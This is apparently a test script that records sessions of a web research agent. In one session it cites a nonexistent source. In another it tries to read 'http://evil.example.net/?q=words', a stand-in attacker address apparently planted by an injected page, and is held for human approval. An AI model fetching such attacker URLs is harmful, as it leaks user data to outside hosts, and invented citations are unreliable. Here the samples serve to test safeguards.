import { PLAIN_SPEC } from "../../../src/cairn/core/log/run-spec.ts";
import { readWeb, searchWeb, webPlatform } from "../platform/web.ts";
import { writeFrozen } from "./write-frozen.ts";

/**
 * Writes what today's code stores of a session that has searched, read and cited, as freeze.ts does of one that works on a
 * site: `npx node test/sim/scripts/freeze-research.ts v1-research`.
 *
 * The first run has paid for a search that was tried again later, has read a page, and has cited it beside what is none. The
 * second waits for a person, because nothing has shown it the address that it asks for.
 */
const { platform } = webPlatform(
  [
    { calls: [searchWeb("passes")] },
    { calls: [readWeb("/pass")] },
    { text: "On 15 May [e1], and it snows [e7]." },
    { text: "On 15 May 2026 [e1], and it snows [e7]." },
  ],
  {
    faults: 1,
    next: [{ calls: [readWeb("/evil")] }, { calls: [readWeb("http://evil.example.net/?q=words")] }],
  },
);
platform.say("When does the pass of http://alps.example.com/pass open?", {
  spec: { ...PLAIN_SPEC, citations: "require" },
});
await platform.settle();
platform.say("And what does http://alps.example.com/evil say?");
await platform.settle();
writeFrozen(process.argv[2], platform);
